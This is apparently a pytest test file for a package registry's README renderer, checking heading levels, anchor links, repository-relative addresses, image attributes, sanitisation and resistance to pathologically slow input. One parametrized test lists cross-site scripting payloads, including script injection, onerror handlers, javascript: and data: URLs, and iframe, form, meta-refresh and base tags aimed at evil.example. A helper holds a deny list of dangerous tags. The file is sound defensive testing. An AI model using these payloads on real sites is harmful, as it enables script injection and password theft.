"""READMEs: what is wanted stays, what is dangerous goes, nothing takes long."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from registry_server.web.readme import LONGEST, MOST_BRACKETS, readme_html
from tests.registry_server.web.shown import Page

REPOSITORY = "https://github.com/acme/tools.git"


def test_markdown_becomes_html() -> None:
    page = Page(readme_html("# Title\n\n**bold** `code` ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n"))
    assert {"h3", "strong", "code", "s", "table", "th", "td", "ul", "li"} <= {tag for tag, _ in page.tags}


def test_headings_begin_below_those_of_the_page_also_where_they_are_html() -> None:
    tags = [tag for tag, _ in Page(readme_html("# A\n\n###### B\n\n<h1 align=center>C</h1>\n")).tags]
    assert tags == ["h3", "h6", "h3"]


def test_links_within_the_readme_find_their_heading() -> None:
    page = Page(readme_html("[go](#how-to-use-it) [again](#notes-1)\n\n## How to *use* it!\n\n## Notes\n\n## Notes\n"))
    assert list(page.values("href")) == ["#readme-how-to-use-it", "#readme-notes-1"]
    assert list(page.values("id")) == ["readme-how-to-use-it", "readme-notes", "readme-notes-1"]


def test_relative_addresses_lead_into_the_repository() -> None:
    page = Page(readme_html("[guide](./docs/guide.md) ![shot](/images/a.png)", REPOSITORY))
    assert list(page.values("href")) == ["https://github.com/acme/tools/blob/HEAD/docs/guide.md"]
    assert list(page.values("src")) == ["https://github.com/acme/tools/raw/HEAD/images/a.png"]


@pytest.mark.parametrize(
    "repository",
    ["", "https://example.com/a/b", "javascript:alert(1)//github.com/a/b", "http://[", "https://github.com/acme"],
)
def test_relative_addresses_lead_nowhere_where_the_repository_is_unknown(repository: str) -> None:
    page = Page(readme_html("[guide](docs/guide.md) ![shot](images/a.png) [out](https://example.com)", repository))
    assert list(page.values("href")) == ["https://example.com"]
    assert list(page.values("src")) == []


def test_pictures_without_an_address_leave_their_words_and_others_always_have_some() -> None:
    page = Page(readme_html('![<b>&"](a.png) <img src="javascript:x"> <img src="https://example.com/a.png">'))
    assert page.text.split() == ['<b>&"']
    assert [attributes["alt"] for tag, attributes in page.tags if tag == "img"] == [""]


def test_pictures_are_fetched_late_and_without_telling_from_where() -> None:
    picture = Page(readme_html("![a](https://example.com/a.png)")).tags[1][1]
    assert (picture["loading"], picture["referrerpolicy"], picture["alt"]) == ("lazy", "no-referrer", "a")


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        '<a href="java\nscript:alert(1)">a</a>',
        '<a href="data:text/html,<script>alert(1)</script>">a</a>',
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=//evil.example></iframe>",
        '<form action="//evil.example"><input name=password></form>',
        "<style>*{display:none}</style>",
        '<p style="position:fixed">x</p>',
        '<meta http-equiv=refresh content="0;url=//evil.example">',
        "<base href=//evil.example>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "```html\n<script>alert(1)</script>\n```",
        "<h1 <script>alert(1)</script>",
    ],
)
def test_nothing_dangerous_comes_through(attack: str) -> None:
    _check_harmless(readme_html(attack, REPOSITORY))


@given(st.text(alphabet="<>/=\"'&;:#[]()!`*_-| \nabhrefscriptonjv1", max_size=120))
@settings(max_examples=150, deadline=None)
def test_no_text_at_all_becomes_dangerous(text: str) -> None:
    _check_harmless(readme_html(text, REPOSITORY))


@pytest.mark.parametrize("part", ["[", "![", "<a", "*a ", "> ", "`", "- ", "<div>", "|a", "&", "[a](", "# a\n", "<h1>"])
def test_a_readme_that_is_made_to_be_slow_is_not(part: str) -> None:
    begun = time.process_time()
    _check_harmless(readme_html((part * LONGEST)[:LONGEST]))
    assert time.process_time() - begun < 5


def test_what_is_no_sensible_markdown_is_shown_as_it_stands() -> None:
    page = Page(readme_html("[" * (MOST_BRACKETS + 1) + "<b>"))
    assert [tag for tag, _ in page.tags] == ["pre"]
    assert page.text.endswith("[[<b>")


def _check_harmless(html: str) -> None:
    page = Page(html)
    dangerous = {"script", "iframe", "form", "input", "style", "meta", "base", "svg", "math", "object", "link"}
    assert not dangerous & {tag for tag, _ in page.tags}
    names = {name for _, attributes in page.tags for name in attributes}
    assert not [name for name in names if name.startswith("on") or name == "style"]
    for address in [*page.values("href"), *page.values("src")]:
        assert address.startswith(("https://", "http://", "mailto:", "#readme-")), address
